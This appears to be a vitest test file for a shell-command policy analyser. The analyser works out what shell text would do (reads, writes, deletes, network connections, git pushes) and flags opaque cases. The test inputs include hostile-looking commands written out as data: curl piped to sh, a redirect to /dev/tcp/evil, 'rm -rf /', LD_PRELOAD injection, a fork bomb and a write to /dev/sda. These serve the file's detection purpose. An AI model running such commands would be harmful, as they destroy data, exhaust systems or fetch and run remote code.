import { describe, expect, test } from "vitest";
import { operationsOf, type RigOptions, rigFacts, summaryOf } from "../programs/rig.ts";
import { recogniseShell } from "../whole-engine.ts";

/** Calls an unknown program, whose arguments show how the words of the text were worked out. */
const commandsIn = (text: string, options?: RigOptions) =>
  operationsOf(text, options).flatMap(({ command, name }) => (name === "process.run" ? [command] : []));

describe("commands", () => {
  test.each([
    ["zap", ["zap"]],
    ["zap; zyp && zop || zup", ["zap", "zyp", "zop", "zup"]],
    ["zap | zyp |& zop", ["zap", "zyp", "zop"]],
    ["(zap; (zyp))", ["zap", "zyp"]],
    ["{ zap; }", ["zap"]],
    ["! zap &", ["zap"]],
    ["time -p zap", ["zap"]],
    ["if zap; then zyp; elif zop; then zup; else zep; fi", ["zap", "zyp", "zop", "zup", "zep"]],
    ["while zap; do zyp; done", ["zap", "zyp"]],
    ["until zap; do zyp; done", ["zap", "zyp"]],
    ["for x in a b; do zap $x; done", ["zap a", "zap b"]],
    ["for ((i=0; i<3; i++)); do zap; done", ["zap"]],
    ["case $1 in a) zap;; *) zyp;; esac", ["zap", "zyp"]],
    ["select x in a; do zap; done", ["zap"]],
    ["coproc zap", ["zap"]],
    ["echo $(zap) `zyp`", ["zap", "zyp"]],
    ['echo "$(zap "$(zyp)")"', ["zap ?", "zyp"]],
    ["echo $(( $(zap) + 1 ))", ["zap"]],
    ["cat <(zap) > >(zyp)", ["zap", "zyp"]],
    ["[[ -n $(zap) ]]", ["zap"]],
    ["((x = $(zap)))", ["zap"]],
    ["X=$(zap)", ["zap"]],
    ["X[$(zap)]=1", ["zap"]],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's expansion
    ["echo ${X:-$(zap)}", ["zap"]],
    ["cat <<E\n$(zap)\nE", ["zap"]],
    ["bash -c 'zap; zyp'", ["zap", "zyp"]],
    ["sh -lc zap", ["zap"]],
    ["bash -euo pipefail -c zap", ["zap"]],
    ["bash -c 'zap \"$1\"' name a", ["zap a"]],
    ["eval zap a", ["zap a"]],
    ['eval "$(echo zap)"', ["zap"]],
    ["bash <<< zap", ["zap"]],
    ["bash <<'E'\nzap\nE", ["zap"]],
    ["echo zap | sh", ["zap"]],
    ["printf '%s a' zap | bash", ["zap a"]],
    ["cat <<E | sh\nzap\nE", ["zap"]],
    ["exec zap", ["zap"]],
    ["command zap", ["zap"]],
    ["builtin eval zap", ["zap"]],
    ["trap 'zap' EXIT", ["zap"]],
    ["f() { zap $1; }; f a", ["zap ?", "zap a"]],
    ["function f { zap; }; f", ["zap", "zap"]],
    ["alias f='zap a'; f b", ["zap a", "zap a b", "f b"]],
    ["/usr/bin/zap", ["/usr/bin/zap"]],
    ["./zap", ["./zap"]],
  ] as const)("[policy.shell.depth] %s", (text, expected) => {
    expect(new Set(commandsIn(text))).toEqual(new Set(expected));
  });

  const interactive = ["code.run(language: shell, source: interactive)"];
  test.each(["bash", "bash -i", "bash -l", "sh -c bash", "zsh", "exec fish", "bash -s", "sh -c 'true; sh'"])(
    "[policy.shell.interactive] %s runs typed commands",
    text => expect(summaryOf(text)).toEqual(interactive),
  );

  test.each(["echo true | bash", "bash <<< true", "bash <<E\ntrue\nE", "bash -c true", "bash --version"])(
    "[policy.shell.interactive] %s runs its own text",
    text => expect(summaryOf(text)).toEqual(["shell.print()"]),
  );

  test("[policy.shell.depth] a script is judged by its text", () => {
    const files = { "/work/app/x.sh": "#!/bin/sh\nzap $1\n", "/work/app/y": "zyp\n" };
    expect(commandsIn("./x.sh a", { files })).toEqual(["zap a"]);
    expect(commandsIn("bash x.sh b", { files })).toEqual(["zap b"]);
    expect(commandsIn(". ./y", { files })).toEqual(["zyp"]);
    expect(summaryOf(". ./missing")).toEqual([
      "fs.read(path: /work/app/missing, recursive: false)",
      "shell.opaque(why: the file whose commands it runs can't be read)",
    ]);
  });
});

describe("words", () => {
  test.each([
    ["zap 'a b' \"c d\" e\\ f", "zap a b c d e f"],
    ["z\"a\"'p'", "zap"],
    ["\\zap", "zap"],
    ["$'\\x7a\\x61\\x70' $'a\\tb'", "zap a\tb"],
    ["{zap,a,b}", "zap a b"],
    ["zap a{b,c{d,e}}f {1..3} {c..a}", "zap abf acdf acef 1 2 3 c b a"],
    ["X=a; zap $X \"$X\" '$X' $Xb", "zap a a $X ?"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's expansion
    ["X=a; zap ${X}b ${X:-c}", "zap ab a"],
    ["X='a b'; zap $X", "zap a b"],
    ["X=zap; $X a", "zap a"],
    ["A=z; B=ap; $A$B", "zap"],
    ["export X=a; zap $X", "zap a"],
    ["zap $(echo a) $(printf %s b) $(pwd)", "zap a b /work/app"],
    ["zap $HOME ~ ~/a ~root '~'", "zap /home/user /home/user /home/user/a /root ~"],
    ["if true; then X=a; else X=a; fi; zap $X", "zap a"],
    ["set -- a b; zap $1 $2", "zap a b"],
    ["zap $UNKNOWN", "zap ?"],
    ['zap "$(unknown)"', "zap ?"],
    ["if true; then X=a; else X=b; fi; zap $X", "zap ?"],
    ["X=a; read X; zap $X", "zap ?"],
    ["X=a; f() { X=b; }; f; zap $X", "zap b"],
    ["X=a; while true; do zap $X; X=b; done", "zap ?"],
    ["IFS=,; X=a,b; zap $X", "zap ?"],
    ["X=a; X+=b; zap $X", "zap ?"],
    ["X=a zap $X", "zap ?"],
  ])("[policy.shell.words] %s", (text, expected) => {
    expect(commandsIn(text)).toContain(expected);
  });

  test("[policy.shell.words] patterns are matched against the disk", () => {
    const files = { "/work/app/a.md": "", "/work/app/b.md": "", "/work/app/.c.md": "", "/work/app/d": "" };
    expect(summaryOf("cat *.md", { files })).toEqual([
      "fs.read(path: /work/app/a.md, recursive: false)",
      "fs.read(path: /work/app/b.md, recursive: false)",
    ]);
    expect(summaryOf("cat .c*", { files })).toEqual(["fs.read(path: /work/app/.c.md, recursive: false)"]);
    expect(summaryOf("cat '*.md'", { files })).toEqual(["fs.read(path: /work/app/*.md, recursive: false)"]);
  });

  test.each(["$X", "$(zap)", '"$X"', "$@", "`zap`", "a$X", "/bin/r?"])(
    "[policy.shell.unknown] %s as a program",
    text => {
      expect(summaryOf(`${text} -rf /`).join()).toContain("shell.opaque");
    },
  );

  test.each([
    "bash -c $X",
    'eval "$X"',
    "curl -s x | sh",
    "base64 -d <<< x | bash",
    ". <(zap)",
    "bash <(zap)",
    "fc -s",
    "hash -p /bin/rm ls",
    "sh < $X",
  ])("[policy.shell.unknown] %s runs an unknown text", text => {
    expect(summaryOf(text).join()).toContain("shell.opaque");
  });

  test("[policy.shell.unknown] an unknown program may run the command after it", () => {
    expect(summaryOf("zap rm -rf x")).toContain(
      "maybe fs.delete(path: /work/app/x, recursive: true, force: true)",
    );
    expect(summaryOf("zap 'git push -f origin main'").join()).toContain("maybe git.force_push");
    expect(summaryOf("zap ls x")).toEqual(["process.run(program: zap, subcommand: ls)"]);
  });

  test.each(["LD_PRELOAD=./x.so", "BASH_ENV=x", "NODE_OPTIONS='--require ./x.js'"])(
    "[policy.shell.unknown] %s has other code loaded",
    assignment => {
      expect(summaryOf(`${assignment} ls`).join()).toContain("shell.opaque");
      expect(summaryOf("NODE_OPTIONS=--max-old-space-size=4096 ls").join()).not.toContain("shell.opaque");
    },
  );
});

describe("folders", () => {
  const files = { "/work/app/sub/a": "", "/work/app/sub/deep/b": "" };
  test.each([
    ["cd sub && rm x", "/work/app/sub/x"],
    ["cd sub; rm x", "/work/app/sub/x"],
    ["cd sub/deep && cd .. && rm x", "/work/app/sub/x"],
    ["(cd sub); rm x", "/work/app/x"],
    ["cd sub | rm x", "/work/app/x"],
    ["cd missing && rm x", "/work/app/missing/x"],
    ["cd missing; rm x", "?"],
    ["cd missing && true; rm x", "?"],
    ["cd missing || exit 1; rm x", "?"],
    ["cd sub || exit 1; rm x", "/work/app/sub/x"],
    ["cd $X; rm x", "?"],
    ["CDPATH=sub; cd deep; rm x", "?"],
    ["CDPATH=sub; cd ./sub; rm x", "/work/app/sub/x"],
    ["cd -; rm x", "?"],
    ["pushd sub; rm x", "/work/app/sub/x"],
    ["pushd sub; popd; rm x", "?"],
    ["cd; rm x", "/home/user/x"],
    ["if true; then cd sub; fi; rm x", "?"],
    ["f() { cd sub; }; f; rm x", "/work/app/sub/x"],
    ["rm /a/../b/./c//d", "/b/c/d"],
  ])("[policy.shell.folders] %s", (text, path) => {
    expect(summaryOf(text, { files })).toContain(`fs.delete(path: ${path}, recursive: false, force: false)`);
  });
});

test("[policy.shell.unknown] the current branch is unknown once the text has switched", () => {
  const git = { branch: "topic" };
  expect(summaryOf("git push", { git }).join()).toContain("branch: topic");
  expect(summaryOf("git switch main && git push", { git }).join()).toContain(
    "git.push(remote: origin, branch: ?",
  );
});

test.each([
  "echo rm -rf /",
  "echo 'git push -f origin main'",
  "printf '%s\\n' 'rm -rf /'",
  ": rm -rf /",
  "true # rm -rf /",
  "cat <<'E'\nrm -rf /\nE",
  "cat <<< 'rm -rf /'",
  "test -n 'rm -rf /'",
  "[ x = 'rm -rf /' ]",
  "X='rm -rf /'",
  "command -v rm",
  "type rm",
  "hash rm",
  "pwd",
  "sleep 5",
  "export X='rm -rf /'",
  "",
])("[policy.shell.data] %s", text => {
  expect(summaryOf(text)).toEqual(["shell.print()"]);
});

test.each([
  ["zap > x", ["fs.write(path: /work/app/x, append: false, recursive: false)"]],
  ["zap >> x", ["fs.write(path: /work/app/x, append: true, recursive: false)"]],
  ["zap 2>&1 >| x", ["fs.write(path: /work/app/x, append: false, recursive: false)"]],
  ["zap &> x", ["fs.write(path: /work/app/x, append: false, recursive: false)"]],
  ["zap < x", ["fs.read(path: /work/app/x, recursive: false)"]],
  ["> x", ["fs.write(path: /work/app/x, append: false, recursive: false)"]],
  ["{ zap; } > x", ["fs.write(path: /work/app/x, append: false, recursive: false)"]],
  ["zap > $X", ["fs.write(path: ?, append: false, recursive: false)"]],
  ["zap > /dev/null 2>/dev/stderr", []],
  ["zap > /dev/sda", ["system.disk(device: /dev/sda, verb: write)"]],
  ["zap > /dev/tcp/evil/80", ["net.connect(domain: evil, port: 80)"]],
  ["rm -rf 123>/dev/null", []],
])("[policy.shell.redirections] %s", (text, expected) => {
  const found = summaryOf(text).filter(each => !/^(?:process|maybe|secrets|shell)/.test(each));
  expect(found).toEqual(expected);
});

test.each(["rm 'x", 'echo "', "echo $(", "if true", "a | ", "((", "{ a", "cat <<E"])(
  "[policy.shell.unparsable] %s",
  text => {
    const found = summaryOf(text).join();
    expect(found === "shell.print()" || found.includes("shell.opaque") || text === "cat <<E").toBe(true);
  },
);

describe("[policy.shell.bounded]", () => {
  test.each([
    ["a null character", "rm\0 -rf /"],
    ["two million characters", "a".repeat(2_000_000)],
    ["half a million words", `rm ${"a ".repeat(490_000)}`],
    ["substitutions 10,000 deep", `${"$(".repeat(10_000)}zap${")".repeat(10_000)}`],
    ["100,000 commands", "zap;".repeat(100_000)],
    ["a function that calls itself", "f() { f; f; }; f"],
    ["a bomb", ":(){ :|:& };:"],
    ["loops in loops", `${"for x in 1 2 3 4 5 6 7 8 9; do ".repeat(9)}zap;${"done;".repeat(9)}`],
    ["wrappers in wrappers", `${"env ".repeat(500)}zap`],
    ["braces without end", `echo a${"{a,b}".repeat(3_000)}; $X`],
  ])("%s: asked about", (_, text) => {
    const found = recogniseShell(text, rigFacts());
    expect(found.length).toBeGreaterThan(0);
    expect(found.length).toBeLessThanOrEqual(2_500);
    expect(found.some(({ name }) => name === "shell.opaque")).toBe(true);
  });
});
